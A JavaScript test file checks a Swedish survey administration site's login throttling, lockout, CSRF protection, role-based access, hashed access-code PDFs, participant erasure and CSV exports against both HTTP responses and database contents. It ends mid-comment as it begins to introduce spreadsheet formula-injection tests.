// SPDX-License-Identifier: ISC
// uppfolj-adminweb over HTTP (nginx -> FastCGI -> PostgreSQL): login,
// lockout, expiring sessions, CSRF, roles (admin, evaluator, unit contact),
// code sheets (PDF, hashes, QR), erasure, exports and the access request,
// each asserting both the HTTP answer and what the database holds.
import { test, before } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { randomBytes } from 'node:crypto';
import * as L from './lib.mjs';

let admin, evaluator, contact, unitA, unitB, unitC;

// Issue a code sheet as client c; returns the response.
const sheet = (c, fields) => c.post('/admin/koder/kodblad.pdf',
	{ omgang: '36', satt: 'ny', ...fields });

before(() => {
	unitA = L.unitId('Avdelning 3,');
	unitB = L.unitId('Avdelning 4,');
	unitC = L.unitId('Avdelning 12,');
	assert.ok(unitA && unitB && unitC, 'demo study loaded');
	admin = L.userAdd('awadm', 'admin');
	evaluator = L.userAdd('aweval', 'evaluator');
	contact = L.userAdd('awkontakt', 'unit_contact', [unitA]);
});

test('the login page: Swedish, a login token cookie limited to /admin/', async () => {
	const c = new L.Client();
	const r = await c.get('/admin/login');
	assert.equal(r.status, 200);
	assert.match(r.text, /<html lang="sv">/);
	assert.match(r.text, /<label for="anvandarnamn">Användarnamn<\/label>/);
	assert.ok(L.csrfOf(r.text));
	const ck = c.lastCookies.find((x) => x.startsWith('uf_admin_login='));
	assert.match(ck, /; Path=\/admin\/; HttpOnly; SameSite=Strict/);
	assert.equal(r.headers.get('cache-control'), 'no-store');
});

test('a right password logs in: session cookies HttpOnly, SameSite=Strict, Path=/admin/', async () => {
	const before = L.auditCount('user.login', admin.name);
	const c = new L.Client();
	const r = await c.login(admin);
	assert.equal(r.status, 303);
	assert.equal(r.location, '/admin/');
	for (const name of ['uf_admin', 'uf_admin_csrf']) {
		const ck = c.lastCookies.find((x) => x.startsWith(name + '='));
		assert.match(ck, /^uf_admin(_csrf)?=[0-9a-f]{64}; Path=\/admin\/; HttpOnly; SameSite=Strict/, ck);
	}
	// Only hashes are stored.
	assert.equal(L.num(`SELECT count(*) FROM uppfolj.admin_session
		WHERE token_hash = decode('${L.tokenHash(c.token)}', 'hex')`), 1);
	const home = await c.get('/admin/');
	assert.equal(home.status, 200);
	assert.match(home.text, /<h1>Översikt<\/h1>/);
	assert.equal(L.auditCount('user.login', admin.name), before + 1);
});

test('a wrong password is rejected with a generic message, like an unknown user', async () => {
	const u = L.userAdd('awfel');
	const c = new L.Client();
	const wrong = await c.login(u, u.password + 'x');
	assert.equal(wrong.status, 401);
	assert.match(wrong.text, /Inloggningen misslyckades/);
	assert.ok(!c.jar.has('uf_admin'), 'no session cookie');
	const unknown = await new L.Client().login({ name: L.uname('nobody') }, 'whatever-password');
	assert.equal(unknown.status, 401);
	const msg = (t) => t.match(/<p class="error"[^>]*>([^<]*)</)[1];
	assert.equal(msg(unknown.text), msg(wrong.text), 'same answer for unknown and wrong');
	assert.equal(L.num(`SELECT failed_logins FROM uppfolj.app_user WHERE username = ${L.lit(u.name)}`), 1);
	assert.equal(L.num(`SELECT count(*) FROM uppfolj.audit_log WHERE action = 'user.login_failed'
		AND detail->>'user' = ${L.lit(u.name)}`), 1);
	// Missing fields: a plain 400, nothing counted.
	const empty = await c.post('/admin/login', { csrf: c.jar.get('uf_admin_login'), anvandarnamn: u.name, losenord: '' }, { csrf: false });
	assert.equal(empty.status, 400);
	assert.equal(L.num(`SELECT failed_logins FROM uppfolj.app_user WHERE username = ${L.lit(u.name)}`), 1);
});

test('one address: after 30 failed logins across names even a right password is refused there', async () => {
	// Another loopback address is another client to nginx ($remote_addr).
	L.sql('DELETE FROM uppfolj.admin_login_attempt');
	const far = new L.Client({ from: '127.0.0.2' });
	const throttledBefore = L.auditCount('user.login_throttled');
	for (let i = 0; i < 30; i++)
		assert.equal((await far.login({ name: L.uname('gissning') }, 'fel-losenord-' + i)).status, 401);
	// One row for the address, all 30 counted.
	assert.deepEqual(L.sql('SELECT failures FROM uppfolj.admin_login_attempt'), [['30']]);
	const right = await far.login(admin);
	assert.equal(right.status, 401, 'throttled: the right password does not help');
	assert.match(right.text, /Inloggningen misslyckades/);
	assert.ok(!far.jar.has('uf_admin'), 'no session cookie');
	assert.equal(L.auditCount('user.login_throttled'), throttledBefore + 1);
	assert.equal(L.num(`SELECT count(*) FROM uppfolj.audit_log WHERE action = 'user.login_throttled'
		AND detail->>'user' = ${L.lit(admin.name)}`), 1);
	// The user is not locked by it, and from another address the same
	// password works.
	assert.equal(L.num(`SELECT failed_logins FROM uppfolj.app_user WHERE username = ${L.lit(admin.name)}`), 0);
	const near = await new L.Client().login(admin);
	assert.equal(near.status, 303);
	assert.equal(near.location, '/admin/');
	// After the window the address may try again.
	L.sql("UPDATE uppfolj.admin_login_attempt SET window_start = now() - interval '16 minutes'");
	const later = await far.login(admin);
	assert.equal(later.status, 303);
	// Refused again: the admin's users page says so and can lift it now.
	L.sql('UPDATE uppfolj.admin_login_attempt SET window_start = now()');
	assert.equal((await new L.Client({ from: '127.0.0.2' }).login(admin)).status, 401);
	const a = await L.loggedIn(admin);
	const page = await a.get('/admin/anvandare');
	assert.match(page.text, /data-refused="1"><p>1 datoradress får inte logga in/);
	const unblockedBefore = L.auditCount('user.addr_unblock', 'web:' + admin.name);
	const lift = await a.post('/admin/anvandare/adresser');
	assert.equal(lift.status, 303);
	assert.equal(lift.location, '/admin/anvandare?klart=adresser');
	assert.equal(L.num('SELECT count(*) FROM uppfolj.admin_login_attempt'), 0);
	assert.equal(L.auditCount('user.addr_unblock', 'web:' + admin.name), unblockedBefore + 1);
	assert.doesNotMatch((await a.get('/admin/anvandare')).text, /data-refused/);
	assert.equal((await new L.Client({ from: '127.0.0.2' }).login(admin)).status, 303);
	// Only admins may lift it, and only with the form's token.
	const ev = await L.loggedIn(evaluator);
	assert.equal((await ev.post('/admin/anvandare/adresser')).status, 403);
	assert.equal((await a.post('/admin/anvandare/adresser', {}, { csrf: false })).status, 403);
	L.sql('DELETE FROM uppfolj.admin_login_attempt');
});

test('lockout: after 5 failures even the right password is refused; an admin unlocks', async () => {
	const u = L.userAdd('awlas');
	const c = new L.Client();
	for (let i = 0; i < 5; i++)
		assert.equal((await c.login(u, 'fel-losenord-' + i)).status, 401);
	assert.equal(L.sql1(`SELECT locked_until > now() FROM uppfolj.app_user WHERE username = ${L.lit(u.name)}`), 't');
	const right = await c.login(u);
	assert.equal(right.status, 401, 'locked: the right password does not help');
	assert.match(right.text, /Inloggningen misslyckades/);
	assert.ok(!c.jar.has('uf_admin'));
	assert.ok(L.num(`SELECT count(*) FROM uppfolj.audit_log WHERE action = 'user.login_locked'
		AND detail->>'user' = ${L.lit(u.name)}`) >= 1);
	// The admin's users page shows the lock and can lift it.
	const a = await L.loggedIn(admin);
	const page = await a.get('/admin/anvandare');
	assert.match(page.text, new RegExp(`data-user="${u.name}">.*Spärrad`));
	const uid = L.sql1(`SELECT user_id FROM uppfolj.app_user WHERE username = ${L.lit(u.name)}`);
	const un = await a.post('/admin/anvandare/lasupp', { anvandare: uid });
	assert.equal(un.status, 303);
	assert.equal((await c.login(u)).status, 303);
});

test('an expired session goes back to the login page', async () => {
	const c = await L.loggedIn(admin);
	assert.equal((await c.get('/admin/svarsfrekvens')).status, 200);
	L.sql(`UPDATE uppfolj.admin_session SET created_at = now() - interval '9 hours',
		expires_at = now() - interval '1 minute'
		WHERE token_hash = decode('${L.tokenHash(c.token)}', 'hex')`);
	const r = await c.get('/admin/svarsfrekvens');
	assert.equal(r.status, 303);
	assert.equal(r.location, '/admin/login?slut=1');
	const login = await c.get(r.location);
	assert.match(login.text, /har sessionen gått ut/);
	// A form posted with the dead session changes nothing either.
	const name = 'Utgången ' + randomBytes(3).toString('hex');
	const p = await c.post('/admin/enheter', { namn: name, typ: 'other', huvudman: 'kommun', redovisning: 'x' });
	assert.equal(p.status, 303);
	assert.equal(p.location, '/admin/login?slut=1');
	assert.equal(L.num(`SELECT count(*) FROM uppfolj.unit WHERE name = ${L.lit(name)}`), 0);
});

test('no cookie, or a made-up token: to the login page', async () => {
	const r = await new L.Client().get('/admin/');
	assert.equal(r.status, 303);
	assert.equal(r.location, '/admin/login?slut=1');
	const c = new L.Client();
	c.jar.set('uf_admin', randomBytes(32).toString('hex'));
	assert.equal((await c.get('/admin/export')).status, 303);
});

test('the framework\'s own error pages under /admin/ lead to /admin/, not the survey', async () => {
	const c = await L.loggedIn(admin);
	const notFound = await c.get('/admin/finns-inte');
	assert.equal(notFound.status, 404);
	assert.match(notFound.text, /Sidan finns inte/);
	const method = await c.get('/admin/logout');   // POST only
	assert.equal(method.status, 405);
	for (const r of [notFound, method]) {
		assert.match(r.text, /<a class="button" href="\/admin\/">Till startsidan<\/a>/);
		assert.doesNotMatch(r.text, /href="\/"/);
		assert.equal(r.headers.get('content-disposition'), null);
	}
	// Without a session too (the router answers before any login check).
	const anon = await new L.Client().get('/admin/finns-inte');
	assert.equal(anon.status, 404);
	assert.match(anon.text, /href="\/admin\/">Till startsidan</);
});

test('logout ends the session in the database', async () => {
	const c = await L.loggedIn(admin);
	const token = c.token;
	const r = await c.post('/admin/logout');
	assert.equal(r.status, 303);
	assert.equal(r.location, '/admin/login?ut=1');
	assert.equal(L.num(`SELECT count(*) FROM uppfolj.admin_session
		WHERE token_hash = decode('${L.tokenHash(token)}', 'hex')`), 0);
	c.jar.set('uf_admin', token);
	assert.equal((await c.get('/admin/')).status, 303);
});

test('CSRF: a form without the token, with a wrong one or another session\'s is 403', async () => {
	const c = await L.loggedIn(admin);
	const other = await L.loggedIn(evaluator);
	const name = 'CSRF-test ' + randomBytes(3).toString('hex');
	const fields = { namn: name, typ: 'other', huvudman: 'kommun', redovisning: 'kommun, annat' };
	const none = await c.post('/admin/enheter', fields, { csrf: false });
	assert.equal(none.status, 403);
	assert.match(none.text, /Formuläret kunde inte tas emot/);
	const wrong = await c.post('/admin/enheter', { ...fields, csrf: randomBytes(32).toString('hex') });
	assert.equal(wrong.status, 403);
	const theirs = await c.post('/admin/enheter', { ...fields, csrf: other.jar.get('uf_admin_csrf') });
	assert.equal(theirs.status, 403);
	const twice = await c.post('/admin/enheter', [['csrf', c.jar.get('uf_admin_csrf')],
		['csrf', c.jar.get('uf_admin_csrf')], ...Object.entries(fields)]);
	assert.equal(twice.status, 403);
	assert.equal(L.num(`SELECT count(*) FROM uppfolj.unit WHERE name = ${L.lit(name)}`), 0);
	// Logout without the token does not log out.
	assert.equal((await c.post('/admin/logout', {}, { csrf: false })).status, 403);
	assert.equal((await c.get('/admin/')).status, 200);
	// The login form: its token must match its cookie.
	const fresh = new L.Client();
	await fresh.get('/admin/login');
	const bad = await fresh.post('/admin/login', { csrf: randomBytes(32).toString('hex'),
		anvandarnamn: admin.name, losenord: admin.password }, { csrf: false });
	assert.equal(bad.status, 403);
	const nocookie = new L.Client();
	const nc = await nocookie.post('/admin/login', { csrf: randomBytes(32).toString('hex'),
		anvandarnamn: admin.name, losenord: admin.password }, { csrf: false });
	assert.equal(nc.status, 403);
	// And with the token, the same form works.
	const ok = await c.post('/admin/enheter', fields);
	assert.equal(ok.status, 303);
	assert.equal(L.num(`SELECT count(*) FROM uppfolj.unit WHERE name = ${L.lit(name)}`), 1);
	assert.equal(L.num(`SELECT count(*) FROM uppfolj.audit_log WHERE action = 'unit.create'
		AND actor = ${L.lit('web:' + admin.name)}`) >= 1, true);
});

test('adding a unit: strict validation with Swedish messages, nothing half written', async () => {
	const c = await L.loggedIn(admin);
	const before = L.num('SELECT count(*) FROM uppfolj.unit');
	const cases = [
		[{ namn: '', typ: 'other', huvudman: 'kommun', redovisning: 'x' }, 400, /Ange enhetens namn/],
		[{ namn: 'A', typ: 'sjukhus', huvudman: 'kommun', redovisning: 'x' }, 400, /Välj verksamhet/],
		[{ namn: 'A', typ: 'other', huvudman: 'stat', redovisning: 'x' }, 400, /Välj huvudman/],
		[{ namn: 'A', typ: 'other', huvudman: 'kommun', redovisning: '' }, 400, /redovisas/],
		[{ namn: 'A\u0007', typ: 'other', huvudman: 'kommun', redovisning: 'x' }, 400, /styrtecken/],
		[{ namn: 'x'.repeat(201), typ: 'other', huvudman: 'kommun', redovisning: 'x' }, 400, /högst 200/],
		[{ namn: 'A', typ: 'other', huvudman: 'kommun', redovisning: 'x', extra: '1' }, 400, /fält som inte hör dit/],
		[{ namn: L.unitName(unitA), typ: 'other', huvudman: 'kommun', redovisning: 'x' }, 409, /redan en enhet/],
	];
	for (const [f, status, msg] of cases) {
		const r = await c.post('/admin/enheter', f);
		assert.equal(r.status, status, JSON.stringify(f));
		assert.match(r.text, msg);
	}
	assert.equal(L.num('SELECT count(*) FROM uppfolj.unit'), before);
});

test('wave dates: a date that does not exist, or closing before opening, is refused', async () => {
	const c = await L.loggedIn(admin);
	const w = () => L.sql(`SELECT opens_on, closes_on FROM uppfolj.wave WHERE study_id = ${L.studyId()} AND months = 36`)[0];
	const was = w();
	for (const [o, s, msg] of [['2026-02-30', '2026-12-31', /ÅÅÅÅ-MM-DD/], ['2026-11-01', '2026-10-01', /före öppningsdagen/],
		['1.11.2026', '2026-12-31', /ÅÅÅÅ-MM-DD/]]) {
		const r = await c.post('/admin/omgangar/datum', { omgang: '36', oppnar: o, stanger: s });
		assert.equal(r.status, 400);
		assert.match(r.text, msg);
	}
	assert.equal((await c.post('/admin/omgangar/datum', { omgang: '99', oppnar: was[0], stanger: was[1] })).status, 404);
	assert.deepEqual(w(), was);
	// The same dates again: accepted, audited, unchanged.
	const n = L.auditCount('wave.dates');
	const ok = await c.post('/admin/omgangar/datum', { omgang: '36', oppnar: was[0], stanger: was[1] });
	assert.equal(ok.status, 303);
	assert.equal(L.auditCount('wave.dates'), n + 1);
	assert.deepEqual(w(), was);
	// A later closing day carries the wave's unused codes along; then back.
	const later = L.sql1(`SELECT to_char(${L.lit(was[1])}::date + 7, 'YYYY-MM-DD')`);
	const unused = () => L.num(`SELECT count(*) FROM uppfolj.access_code c JOIN uppfolj.wave w USING (wave_id)
		WHERE w.study_id = ${L.studyId()} AND w.months = 36 AND c.used_at IS NULL
		AND c.expires_at <> ((w.closes_on + 1)::timestamp)::timestamptz`);
	assert.equal((await c.post('/admin/omgangar/datum', { omgang: '36', oppnar: was[0], stanger: later })).status, 303);
	assert.equal(w()[1], later);
	assert.equal(unused(), 0, 'unused codes expire with the wave');
	assert.equal((await c.post('/admin/omgangar/datum', { omgang: '36', oppnar: was[0], stanger: was[1] })).status, 303);
	assert.deepEqual(w(), was);
	assert.equal(unused(), 0);
	// Evaluators see the waves but may not change them.
	const e = await L.loggedIn(evaluator);
	assert.equal((await e.get('/admin/omgangar')).status, 200);
	assert.equal((await e.post('/admin/omgangar/datum', { omgang: '36', oppnar: was[0], stanger: was[1] })).status, 403);
});

test('an evaluator cannot manage users (page, form, menu)', async () => {
	const e = await L.loggedIn(evaluator);
	const page = await e.get('/admin/anvandare');
	assert.equal(page.status, 403);
	assert.match(page.text, /Din roll har inte behörighet/);
	const name = L.uname('awny');
	const r = await e.post('/admin/anvandare', { anvandarnamn: name, losenord: 'ett-bra-losenord',
		losenord2: 'ett-bra-losenord', roll: 'admin' });
	assert.equal(r.status, 403);
	assert.equal(L.num(`SELECT count(*) FROM uppfolj.app_user WHERE username = ${L.lit(name)}`), 0);
	const home = await e.get('/admin/');
	assert.ok(!home.text.includes('href="/admin/anvandare"'), 'no menu entry');
	assert.equal((await e.post('/admin/enheter', { namn: 'x', typ: 'other', huvudman: 'kommun', redovisning: 'x' })).status, 403);
	assert.equal((await e.get('/admin/export')).status, 200);
});

test('an admin creates users; a unit contact needs units, others none', async () => {
	const a = await L.loggedIn(admin);
	const name = L.uname('awk');
	const bad = await a.post('/admin/anvandare', { anvandarnamn: name, losenord: 'ett-bra-losenord',
		losenord2: 'ett-bra-losenord', roll: 'unit_contact' });
	assert.equal(bad.status, 400);
	assert.match(bad.text, /minst en enhet/);
	const mismatch = await a.post('/admin/anvandare', [['anvandarnamn', name], ['losenord', 'ett-bra-losenord'],
		['losenord2', 'ett-annat-losenord'], ['roll', 'unit_contact'], ['enhet', unitB]]);
	assert.equal(mismatch.status, 400);
	assert.match(mismatch.text, /inte likadana/);
	const shortpw = await a.post('/admin/anvandare', { anvandarnamn: name, losenord: 'kort', losenord2: 'kort', roll: 'admin' });
	assert.equal(shortpw.status, 400);
	const badname = await a.post('/admin/anvandare', { anvandarnamn: 'Stora Bokstäver', losenord: 'ett-bra-losenord',
		losenord2: 'ett-bra-losenord', roll: 'admin' });
	assert.equal(badname.status, 400);
	const nounit = await a.post('/admin/anvandare', [['anvandarnamn', name], ['losenord', 'ett-bra-losenord'],
		['losenord2', 'ett-bra-losenord'], ['roll', 'unit_contact'], ['enhet', '999999']]);
	assert.equal(nounit.status, 400);
	assert.equal(L.num(`SELECT count(*) FROM uppfolj.app_user WHERE username = ${L.lit(name)}`), 0);
	const ok = await a.post('/admin/anvandare', [['anvandarnamn', name], ['losenord', 'ett-bra-losenord'],
		['losenord2', 'ett-bra-losenord'], ['roll', 'unit_contact'], ['enhet', unitB], ['enhet', unitC]]);
	assert.equal(ok.status, 303);
	assert.equal(L.sql1(`SELECT string_agg(uu.unit_id::text, ',' ORDER BY uu.unit_id) FROM uppfolj.user_unit uu
		JOIN uppfolj.app_user u USING (user_id) WHERE u.username = ${L.lit(name)}`),
	[unitB, unitC].map(Number).sort((x, y) => x - y).join(','));
	assert.match(L.sql1(`SELECT password_hash FROM uppfolj.app_user WHERE username = ${L.lit(name)}`), /^\$argon2id\$/);
	const dup = await a.post('/admin/anvandare', { anvandarnamn: name, losenord: 'ett-bra-losenord',
		losenord2: 'ett-bra-losenord', roll: 'admin' });
	assert.equal(dup.status, 409);
	assert.match(dup.text, /upptaget/);
	// The new contact logs in through the page.
	assert.equal((await new L.Client().login({ name }, 'ett-bra-losenord')).status, 303);
});

test('a code sheet is a PDF with the codes; only their hashes are stored; QR links work', async () => {
	const a = await L.loggedIn(admin);
	const before = L.auditCount('codes.generate', 'web:' + admin.name);
	const r = await sheet(a, { enhet: unitC, grupp: 'personal', antal: '3' });
	assert.equal(r.status, 200, r.text.slice(0, 500));
	assert.equal(r.headers.get('content-type'), 'application/pdf');
	// A download (saved, not opened in the browser's PDF viewer), named by
	// wave, unit id and group.
	assert.equal(r.headers.get('content-disposition'),
		`attachment; filename="kodblad-36-${unitC}-personal.pdf"`);
	assert.equal(r.headers.get('cache-control'), 'no-store');
	assert.equal(r.buf.subarray(0, 5).toString(), '%PDF-');
	const text = L.pdfText(r.buf, 'codesheet-http.pdf');
	const codes = L.codesIn(text);
	assert.equal(codes.length, 3, text);
	for (const code of codes) {
		const row = L.sql(`SELECT w.months, p.unit_id, p.grp FROM uppfolj.access_code c
			JOIN uppfolj.participant p USING (participant_id) JOIN uppfolj.wave w USING (wave_id)
			WHERE c.code_hash = decode('${L.hashHex(code)}', 'hex')`);
		assert.deepEqual(row, [['36', String(unitC), 'personal']], code);
	}
	// The clear code is nowhere in the database.
	assert.equal(L.num(`SELECT count(*) FROM uppfolj.audit_log WHERE detail::text LIKE ${L.lit('%' + codes[0].slice(0, 3) + '-' + '%')}`), 0);
	assert.equal(L.auditCount('codes.generate', 'web:' + admin.name), before + 1);
	// Each slip's QR code is the personal link.
	const png = join(L.env.artifacts, 'codesheet-http');
	execFileSync('pdftoppm', ['-r', '150', '-png', '-f', '1', '-l', '1', join(L.env.artifacts, 'codesheet-http.pdf'), png]);
	const out = execFileSync('zbarimg', ['--quiet', '--raw', `${png}-1.png`],
		{ encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] });
	const links = out.trim().split('\n').sort();
	assert.deepEqual(links.map((l) => l.replace(/^.*\/k\//, '')).sort(),
		codes.map((c) => c.replace(/-/g, '')).sort());
	for (const l of links) assert.match(l, /^https?:\/\/[^/]+\/k\/[A-Z0-9]{9}$/);
});

test('a code sheet for the participants of an earlier wave links their answers across waves', async () => {
	const a = await L.loggedIn(admin);
	const r = await sheet(a, { enhet: unitB, grupp: 'personal', satt: 'fran', fran_omgang: '24', antal: '1' });
	assert.equal(r.status, 200, r.text.slice(0, 300));
	const [code] = L.codesIn(L.pdfText(r.buf, 'codesheet-carry.pdf'));
	assert.ok(code);
	// The code belongs to someone who took part at 24 months: same participant.
	const waves = L.sql1(`SELECT string_agg(DISTINCT w.months::text, ',' ORDER BY w.months::text)
		FROM uppfolj.access_code c JOIN uppfolj.participant p USING (participant_id)
		JOIN uppfolj.response r ON r.participant_id = p.participant_id
		JOIN uppfolj.wave w ON w.wave_id = r.wave_id
		WHERE c.code_hash = decode('${L.hashHex(code)}', 'hex')`);
	assert.match(waves ?? '', /24/);
});

test('code sheets: a closed wave, a bad group, unit or count are refused; nothing stored', async () => {
	const a = await L.loggedIn(admin);
	const codes = () => L.num('SELECT count(*) FROM uppfolj.access_code');
	const n = codes();
	for (const [f, status, msg] of [
		[{ omgang: '12', enhet: unitC, grupp: 'personal', antal: '2' }, 409, /stängd/],
		[{ omgang: '36', enhet: unitC, grupp: 'personal', antal: '0' }, 400, /1–1000/],
		[{ omgang: '36', enhet: unitC, grupp: 'personal', antal: '1001' }, 400, /1–1000/],
		[{ omgang: '36', enhet: unitC, grupp: 'personal', antal: '2x' }, 400, /1–1000/],
		[{ omgang: '36', enhet: unitC, grupp: 'kund', antal: '2' }, 400, /Välj en grupp/],
		[{ omgang: '36', enhet: '999999', grupp: 'personal', antal: '2' }, 400, /Välj en enhet/],
		[{ omgang: '36', enhet: unitC, grupp: 'personal', satt: 'fran', fran_omgang: '36' }, 400, /tidigare omgång/],
	]) {
		const r = await sheet(a, f);
		assert.equal(r.status, status, JSON.stringify(f));
		assert.match(r.headers.get('content-type'), /^text\/html/);
		assert.equal(r.headers.get('content-disposition'), null, 'a refusal is a page, not a download');
		assert.match(r.text, msg);
	}
	assert.equal(codes(), n);
	assert.equal((await a.post('/admin/koder/annat.pdf', { omgang: '36', enhet: unitC, grupp: 'personal', satt: 'ny', antal: '1' })).status, 404);
	assert.equal(codes(), n);
});

test('a unit contact sees only their own units, masked, never another unit or any answer', async () => {
	// Make sure the other unit has a rates row an admin would see.
	const a = await L.loggedIn(admin);
	assert.equal((await sheet(a, { enhet: unitB, grupp: 'personal', antal: '1' })).status, 200);
	const all = await a.get('/admin/svarsfrekvens');
	assert.match(all.text, new RegExp(`data-unit="${unitB}"`));

	const k = await L.loggedIn(contact);
	assert.equal((await sheet(k, { enhet: unitA, grupp: 'personal', antal: '1' })).status, 200, 'own unit: a sheet');
	const r = await k.get('/admin/svarsfrekvens');
	assert.equal(r.status, 200);
	assert.match(r.text, new RegExp(`data-unit="${unitA}"`));
	assert.ok(!r.text.includes(`data-unit="${unitB}"`), 'no other unit');
	assert.ok(!r.text.includes(L.unitName(unitB)), 'not even its name');
	// Masked: counts below 5 show as "<5" (the database says what is below 5).
	const truth = L.sql(`SELECT grp, submitted, invited FROM uppfolj.response_rate
		WHERE unit_id = ${unitA} AND months = 36`);
	for (const [grp, submitted] of truth) {
		const row = r.text.match(new RegExp(`<tr data-wave="36" data-unit="${unitA}" data-group="${grp}">.*?</tr>`))[0];
		const cell = row.match(/data-col="submitted">([^<]*)</)[1];
		assert.equal(cell, Number(submitted) < 5 ? '&lt;5' : submitted);
	}
	const other = await k.get(`/admin/svarsfrekvens?enhet=${unitB}`);
	assert.equal(other.status, 403);
	assert.match(other.text, /dina egna enheter/);
	const sheetOther = await sheet(k, { enhet: unitB, grupp: 'personal', antal: '1' });
	assert.equal(sheetOther.status, 403);
	assert.equal(sheetOther.headers.get('content-type'), 'text/html; charset=utf-8');
	// No answers, exports or erasure for a unit contact.
	for (const [m, p] of [['GET', '/admin/export'], ['POST', '/admin/export/svar-lang.csv'],
		['POST', '/admin/begaran/registerutdrag.json'], ['POST', '/admin/begaran/registerutdrag.pdf'],
		['GET', '/admin/radera'], ['POST', '/admin/radera'],
		['GET', '/admin/enheter'], ['GET', `/admin/enheter/${unitA}`], ['GET', '/admin/anvandare']]) {
		const x = m === 'GET' ? await k.get(p) : await k.post(p, { panel: 'B-ABCDEF' });
		assert.equal(x.status, 403, `${m} ${p}`);
	}
});

test('the unit contacts\' database role reaches no table, only its own session\'s rates', () => {
	for (const q of ['SELECT count(*) FROM uppfolj.answer', 'SELECT count(*) FROM uppfolj.response_rate',
		'SELECT count(*) FROM uppfolj.participant'])
		assert.throws(() => L.sql(q, 'uppfolj_contact'), /permission denied/);
	assert.throws(() => L.sql(`SELECT * FROM uppfolj.contact_rates('${'0'.repeat(64)}')`, 'uppfolj_contact'),
		/session not accepted/);
});

test('erasure: find by panel id, confirm, then nothing of the participant is left', async () => {
	// A participant of our own with answers (the demo data stays as it is).
	const a = await L.loggedIn(admin);
	const r = await sheet(a, { enhet: unitC, grupp: 'patient', antal: '1' });
	const [code] = L.codesIn(L.pdfText(r.buf, 'codesheet-erase.pdf'));
	assert.equal(await L.answerByApi(code, 'patient', 36), 201);
	const pid = L.sql1(`SELECT participant_id FROM uppfolj.access_code WHERE code_hash = decode('${L.hashHex(code)}', 'hex')`);
	const panel = L.sql1(`SELECT panel_id FROM uppfolj.participant WHERE participant_id = ${pid}`);
	const rids = L.sql(`SELECT response_id FROM uppfolj.response WHERE participant_id = ${pid}`).map((x) => x[0]);
	assert.ok(L.num(`SELECT count(*) FROM uppfolj.answer WHERE response_id IN (${rids.join(',')})`) > 5);

	const e = await L.loggedIn(evaluator);
	const audits = L.auditCount('participant.erase', 'web:' + evaluator.name);
	// Lookup errors first.
	for (const [f, status, msg] of [[{ panel: 'nonsense' }, 400, /ser ut så här/], [{ kod: 'ABC-DEF-GHJ' }, 400, /kontrolltecken/],
		[{ panel: 'B-ZZZZZZ' }, 404, /Ingen deltagare/], [{}, 400, /antingen/], [{ panel, kod: code }, 400, /antingen/]]) {
		const x = await e.post('/admin/radera', f);
		assert.equal(x.status, status, JSON.stringify(f));
		assert.match(x.text, msg);
	}
	const check = await e.post('/admin/radera', { panel });
	assert.equal(check.status, 200);
	assert.match(check.text, new RegExp(`<strong data-panel>${panel}</strong>`));
	assert.equal(L.num(`SELECT count(*) FROM uppfolj.participant WHERE participant_id = ${pid}`), 1, 'not yet');
	const id = check.text.match(/name="deltagare" value="(\d+)"/)[1];
	const unconfirmed = await e.post('/admin/radera/bekrafta', { deltagare: id });
	assert.equal(unconfirmed.status, 400);
	assert.equal(L.num(`SELECT count(*) FROM uppfolj.participant WHERE participant_id = ${pid}`), 1);
	const done = await e.post('/admin/radera/bekrafta', { deltagare: id, bekrafta: 'ja' });
	assert.equal(done.status, 303);
	assert.equal(done.location, '/admin/radera?klart=1');
	const left = L.sql(`SELECT
		(SELECT count(*) FROM uppfolj.participant WHERE participant_id = ${pid}),
		(SELECT count(*) FROM uppfolj.response WHERE participant_id = ${pid}),
		(SELECT count(*) FROM uppfolj.answer WHERE response_id IN (${rids.join(',')})),
		(SELECT count(*) FROM uppfolj.consent WHERE participant_id = ${pid}),
		(SELECT count(*) FROM uppfolj.access_code WHERE participant_id = ${pid}),
		(SELECT count(*) FROM uppfolj.collect_session WHERE participant_id = ${pid})`)[0];
	assert.deepEqual(left, ['0', '0', '0', '0', '0', '0']);
	assert.equal(L.auditCount('participant.erase', 'web:' + evaluator.name), audits + 1);
	// The audit row says nothing of whom.
	assert.equal(L.num(`SELECT count(*) FROM uppfolj.audit_log WHERE coalesce(object, '') || coalesce(detail::text, '') LIKE ${L.lit('%' + panel + '%')}`), 0);
	// Twice: nobody there any more.
	assert.equal((await e.post('/admin/radera/bekrafta', { deltagare: id, bekrafta: 'ja' })).status, 404);
});

test('export: the long CSV has as many rows as the database has answers; logged', async () => {
	const e = await L.loggedIn(evaluator);
	const sid = L.studyId();
	const before = L.auditCount('export.long', 'web:' + evaluator.name);
	const r = await e.post('/admin/export/svar-lang.csv');
	assert.equal(r.status, 200);
	assert.equal(r.headers.get('content-type'), 'text/csv; charset=utf-8');
	assert.equal(r.headers.get('content-disposition'), 'attachment; filename="svar-lang.csv"');
	writeFileSync(join(L.env.artifacts, 'svar-lang.csv'), r.buf);
	const rows = L.parseCsv(r.text);
	// Free text only on request: the long form has every other answer.
	const want = L.num(`SELECT count(*) FROM uppfolj.answer a JOIN uppfolj.response r USING (response_id)
		JOIN uppfolj.participant p USING (participant_id)
		JOIN uppfolj.instrument_item ii ON ii.instrument_id = a.instrument_id AND ii.version = a.version
			AND ii.item_id = a.item_id
		WHERE p.study_id = ${sid} AND r.status = 'submitted' AND ii.item_type <> 'text'`);
	assert.equal(rows.length - 1, want);
	assert.ok(rows.every((x) => x.length === rows[0].length), 'every row has every column');
	assert.equal(L.auditCount('export.long', 'web:' + evaluator.name), before + 1);
	const page = await e.get('/admin/export');
	assert.match(page.text, new RegExp(`data-count="long">${want}<`));
	const wide = await e.post('/admin/export/svar-bred.csv');
	assert.equal(wide.status, 200);
	assert.equal(wide.headers.get('content-disposition'), 'attachment; filename="svar-bred.csv"');
	const wantWide = L.num(`SELECT count(DISTINCT (r.participant_id, r.wave_id)) FROM uppfolj.response r
		JOIN uppfolj.participant p USING (participant_id) WHERE p.study_id = ${sid} AND r.status = 'submitted'`);
	assert.equal(L.parseCsv(wide.text).length - 1, wantWide);
	const book = await e.post('/admin/export/kodbok.csv');
	assert.equal(book.status, 200);
	assert.equal(book.headers.get('content-disposition'), 'attachment; filename="kodbok.csv"');
	assert.ok(L.parseCsv(book.text).length > 50);
	assert.equal((await e.post('/admin/export/svar-lang.csv', {}, { csrf: false })).status, 403);
	assert.equal((await e.post('/admin/export/hemligt.csv')).status, 404);
});

// Free-text answers a spreadsheet would run as formulas: OWASP's CSV
